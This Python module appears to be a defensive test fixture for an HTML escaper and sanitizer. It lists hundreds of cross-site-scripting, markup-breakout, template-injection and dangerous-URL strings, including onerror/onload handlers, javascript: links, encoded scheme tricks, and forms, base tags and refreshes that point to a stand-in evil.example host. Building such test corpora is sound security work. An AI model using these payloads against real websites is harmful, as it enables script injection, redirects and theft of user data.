"""Texts that would do something if a page let them; every one must be shown as it was written."""

NEVER = "globalThis.ran = true, alert(1)"

MARKUP = (
    f"<img src=x onerror='{NEVER}'>",
    f'"><img src=x onerror="{NEVER}">',
    f"<script>{NEVER}</script>",
    f"</script><script>{NEVER}</script>",
    f"</textarea><script>{NEVER}</script>",
    f"</title><svg onload='{NEVER}'>",
    f"<svg/onload={NEVER.replace(' ', '')}>",
    f"<iframe srcdoc='<script>{NEVER}</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data='javascript:alert(1)'></object>",
    f"<body onload='{NEVER}'>",
    f"<details open ontoggle='{NEVER}'>",
    f"<input autofocus onfocus='{NEVER}'>",
    f"<video><source onerror='{NEVER}'></video>",
    f"<math><mtext><img src=x onerror='{NEVER}'>",
    f"<template><img src=x onerror='{NEVER}'></template>",
    "<a href='javascript:alert(1)'>tap me</a>",
    "<form action='//evil.example'><button>Start</button></form>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<!-- <b>not a comment</b> -->",
    f"<nos-log onclick='{NEVER}'>",
)

ATTRIBUTES = (
    f"' onmouseover='{NEVER}' x='",
    f'" autofocus onfocus="{NEVER}" x="',
    "` onmouseover=alert(1)",
    "<div hx-get='/changes/' hx-trigger='load'>",
    "<div hx-on:click='alert(1)' hx-on::load='alert(1)'>",
    '" data-swap="#found" href="//evil.example" x="',
    "<a data-swap='main' data-part='*' href='/static/app.js'>Older</a>",
)

TEMPLATES = (
    "{{7*7}}",
    "{% for x in ().__class__.__mro__ %}{{x}}{% endfor %}",
    "{#gone#}${7*7}#{7*7}<%= 7*7 %>",
    "%(what)s %s %d {0} {what}",
    "{{'a'.constructor.constructor('alert(1)')()}}",
)

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/",
)

LETTERS = (
    "\N{RIGHT-TO-LEFT OVERRIDE}sey a saw siht",
    "\N{RIGHT-TO-LEFT ISOLATE}شكرا \N{LEFT-TO-RIGHT OVERRIDE}no",
    "Z\u0351\u036b\u0343\u036a\u0302a\u0323\u0330\u032fl\u0360\u0349\u031fg\u0335\u0489o\u0322"
    + "\N{COMBINING ACUTE ACCENT}" * 60,
    "\N{ZERO WIDTH JOINER}\N{ZERO WIDTH SPACE}a\N{WORD JOINER}\N{SOFT HYPHEN}",
    "\N{FACE WITH TEARS OF JOY}" * 40,
    "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft" * 2,
    "W" * 199,
    "\N{ARABIC LIGATURE BISMILLAH AR-RAHMAN AR-RAHEEM}" * 12,
    "(" * 100 + "[" * 100,
    "\N{LINE SEPARATOR}and\N{PARAGRAPH SEPARATOR}on",
)

TEXTS = (*MARKUP, *ATTRIBUTES, *TEMPLATES, *ADDRESSES, *LETTERS)

# Ways out of where a text may stand, and what could follow; with TEXTS more than two hundred.
_OUT = ("", '">', "'>", "</textarea>", "</title>", "</script>", "</style>", "</option></select>",
        "</template>", "-->", "]]>", "</noscript>")  # fmt: skip
_THEN = (
    f"<img src=x onerror='{NEVER}'>",
    f"<svg onload='{NEVER}'>",
    f"<script>{NEVER}</script>",
    f"<script src=data:,{NEVER.replace(' ', '')}></script>",
    f"<iframe srcdoc='<script>{NEVER}</script>'>",
    f"<a href=javascript:{NEVER.replace(' ', '')}>tap</a>",
    f"<details open ontoggle='{NEVER}'>",
    f"<input autofocus onfocus='{NEVER}'>",
    "<form action=//evil.example><button autofocus>Start</button>",
    f"<svg><animate onbegin='{NEVER}' attributeName=x dur=1s>",
    f"<style onload='{NEVER}'>*{{display:none}}</style>",
    "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    f"<object data='javascript:{NEVER}'></object><embed src='javascript:{NEVER}'>",
)
PAYLOADS = tuple(dict.fromkeys((*TEXTS, *(out + then for out in _OUT for then in _THEN))))

# Well-formed or nearly so: what a reader of markup by rules could be led past.
EXOTIC = (
    f'<p onclick="{NEVER}">a</p>',
    f'<P OnClick="{NEVER}">a</P>',
    f'<p class="a" onclick="{NEVER}">a</p>',
    f'<p class="a"onclick="{NEVER}">a</p>',
    f'<p/onclick="{NEVER}">a</p>',
    f'<p\nonclick="{NEVER}">a</p>',
    f'<p class="a>" onclick="{NEVER}">a</p>',
    f"<p class='a' onclick='{NEVER}'>a</p>",
    "<p class=a onclick=alert(1)>a</p>",
    '<p class="a',
    '<p style="background:url(//evil.example)">a</p>',
    '<a href="javascript:alert(1)">a</a>',
    '<a href=" javascript:alert(1)">a</a>',
    '<a href="java\tscript:alert(1)">a</a>',
    '<a href="java&#115;cript:alert(1)">a</a>',
    '<a href="&#106;avascript:alert(1)">a</a>',
    '<a href="&Tab;javascript:alert(1)">a</a>',
    '<a href="\x01javascript:alert(1)">a</a>',
    '<a href="data:text/html,x">a</a>',
    '<a href="blob:x">a</a>',
    '<a href="/" target="_blank">a</a>',
    '<a href="/" ping="//evil.example">a</a>',
    '<form action="//evil.example"></form>',
    '<form action="/\\evil.example"></form>',
    '<form action="/\t/evil.example"></form>',
    '<form action="/&#47;evil.example"></form>',
    '<form action="https://evil.example"></form>',
    '<button formaction="https://evil.example">a</button>',
    '<button form="other" formmethod="get">a</button>',
    '<svg><a xlink:href="javascript:alert(1)"><path d="M0 0"/></a></svg>',
    '<svg><a href="/"><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    '<svg><use href="data:image/svg+xml,x"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<svg><foreignObject><p>a</p></foreignObject></svg>",
    "<svg><style><!--</style><p>a</p></svg>",
    "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>",
    '<math><maction actiontype="statusline#http://evil.example">a</maction></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    "<template><p>a</p></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<p title="</textarea><img src=x onerror=alert(1)>">a</p>',
    "<!-- <p>a</p> -->",
    "<!--><p>a</p>",
    "<!doctype html>",
    "<?xml version=1.0?>",
    "<%= 7*7 %>",
    "</ p>",
    "< p>",
    "<\x00p>",
    "<p\x00>",
    '<img src="/static/icons/notebook.svg" alt="">',
    '<video src="/x" autoplay></video>',
    '<embed src="/x">',
    '<link rel="stylesheet" href="/x">',
    '<meta http-equiv="refresh" content="0">',
    '<base href="/x/">',
    '<iframe src="/"></iframe>',
    '<frameset><frame src="/"></frameset>',
    '<object data="/x"></object>',
    '<portal src="/"></portal>',
    '<p is="nos-log">a</p>',
    "<nos-evil>a</nos-evil>",
    '<p nonce="a">a</p>',
    '<slot name="a"></slot>',
    '<input type="image" src="/x">',
)
# As our own pages write it.
PLAIN = (
    "Nothing but words, a &lt;b&gt; and 2 > 1",
    '<ol class="asks" id="asks"><li><a class="what" href="/asks/1/?back=out">A raise</a></li></ol>',
    '<p lang="nl" dir="ltr">a<br>b</p>',
    '<a href="https://example.org/?a=b&amp;c=d" rel="noreferrer">out</a>',
    '<a href="mailto:ana@example.org">mail</a><a href="tel:113">call</a><a href="#main">skip</a>',
    '<form method="post" action="/log/?" data-once><button disabled>No</button></form>',
    '<svg viewBox="0 0 24 24" aria-hidden="true" focusable="false"><path d="M0 0h24"/></svg>',
    '<nos-log><textarea rows="2" name="what">\na &lt; b</textarea></nos-log>',
)
